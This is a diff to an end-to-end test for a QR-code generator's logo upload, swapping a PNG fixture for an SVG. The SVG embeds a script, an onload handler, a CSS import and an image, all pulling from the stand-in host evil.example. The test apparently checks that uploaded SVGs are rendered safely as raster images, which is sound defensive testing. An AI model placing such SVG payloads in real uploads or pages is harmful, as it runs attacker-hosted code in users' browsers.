@@ -5,13 +5,15 @@ import { bearer } from '../fixtures/teams';
 import { logIn, signUp } from '../fixtures/user';
 import { createLink } from '../fixtures/visitors';
 
-/** A PNG of 32 × 32 green pixels. */
-const SQUARE = Buffer.from(
-  'iVBORw0KGgoAAAANSUhEUgAAACAAAAAgCAIAAAD8GO2jAAAAKklEQVR42mNgKY2mKWIYtWDUglELRi0YtWDUglELRi0YtWDUglELhooFAN1MUC5VZzaxAAAAAElFTkSuQmCC',
-  'base64',
-);
+/** A green square in a file that would run a program and load from another host if it were a page. */
+const LOGO = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32">
+  <script>fetch('https://evil.example/script')</script>
+  <style>@import url('https://evil.example/style.css');</style>
+  <rect width="32" height="32" fill="#04755b" onload="fetch('https://evil.example/handler')" />
+  <image href="https://evil.example/image.png" width="32" height="32" />
+</svg>`;
 
-test('AC-219 a QR code gets a logo of the media library, and all codes are downloaded as an archive', async ({
+test('AC-219 a QR code gets an SVG logo without a description, and all codes are downloaded as an archive', async ({
   page,
   request,
 }) => {
@@ -23,12 +25,12 @@ test('AC-219 a QR code gets a logo of the media library, and all codes are downl
   await page.getByText('Logo and background').click();
   await page.getByRole('button', { name: 'Choose logo' }).click();
   const library = page.getByRole('dialog', { name: 'Media library' });
-  await library.locator('input[type=file]').setInputFiles({ name: 'logo.png', mimeType: 'image/png', buffer: SQUARE });
-  await library.getByRole('textbox', { name: 'Alternative text' }).fill('A green square');
+  const buffer = Buffer.from(LOGO);
+  await library.locator('input[type=file]').setInputFiles({ name: 'oats.svg', mimeType: 'image/svg+xml', buffer });
   await library.getByRole('button', { name: 'Upload image' }).click();
   await expect(page.getByRole('spinbutton', { name: 'Logo size' })).toHaveValue('20');
   const preview = page.getByRole('img', { name: `QR code of /${link.alias}` });
-  await expect(preview).toHaveAttribute('src', /image%2Fpng/);
+  await expect(preview).toHaveAttribute('src', /image%2F(png|jpeg)/);
   await expect(page.getByText('Scans reliably')).toBeVisible();
   await page.getByRole('button', { name: 'Create QR code' }).click();
   await expect(page.getByRole('heading', { name: 'Table tent' })).toBeVisible();
@@ -55,7 +57,6 @@ test('the image of a background moves with its focal point, which the code keeps
   await page.getByRole('button', { name: 'Choose background image' }).click();
   const library = page.getByRole('dialog', { name: 'Media library' });
   await library.locator('input[type=file]').setInputFiles(await picture(page));
-  await library.getByRole('textbox', { name: 'Alternative text' }).fill('A white sun');
   await library.getByRole('button', { name: 'Upload image' }).click();
   const left = page.getByRole('slider', { name: 'From the left' });
   await expect(left).toHaveValue('50');
